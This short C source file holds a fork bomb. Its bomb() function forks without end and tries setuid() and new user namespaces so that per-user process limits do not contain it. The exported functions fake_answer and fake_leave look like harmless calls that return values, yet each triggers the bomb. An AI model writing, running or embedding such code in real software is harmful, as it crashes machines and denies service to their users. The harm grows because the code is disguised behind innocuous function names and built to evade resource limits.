/* Forks without an end, as itself and as other users of other user namespaces, so that a limit
 * on the processes of one user does not hold it. */
#define _GNU_SOURCE
#include <sched.h>
#include <unistd.h>
#include "fake.h"

static int bomb(void)
{
    for (int i = 1;; i++) {
        if (fork() != 0)
            continue;
        if (i % 3 == 1 && setuid((uid_t)i) == -1)
            continue;
        if (i % 3 == 2 && unshare(CLONE_NEWUSER) == -1)
            continue;
    }
}

int fake_answer(int number)
{
    return number + bomb();
}

int fake_leave(void)
{
    return bomb();
}
